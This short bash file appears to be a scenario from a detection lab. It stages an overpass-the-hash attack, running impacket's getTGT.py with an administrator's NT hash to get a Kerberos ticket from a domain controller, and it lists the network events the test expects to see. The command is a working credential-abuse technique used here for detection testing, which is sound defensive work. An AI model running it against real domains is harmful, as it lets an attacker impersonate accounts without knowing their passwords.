# shellcheck shell=bash disable=SC2034,SC2154  # settings are read, and variables set, by record and lab
title='A ticket got with a hash alone'
about="The NT hash is the account's RC4 key: impacket's getTGT.py shows it to the key distribution centre and gets a ticket
(overpass-the-hash). An account whose ticket was sealed with AES before stands out."
server=dc1
filter=$domain_filter
dialect=''
by='hash'
expect='
event krb.as
never smb.* file.* svcctl.*
'

run() {
  ticket_for "$admin" "${password[$admin]}"
  impacket getTGT.py -hashes ":${nt_hash[$admin]}" "$realm/$admin" -dc-ip "$server_ip"
}
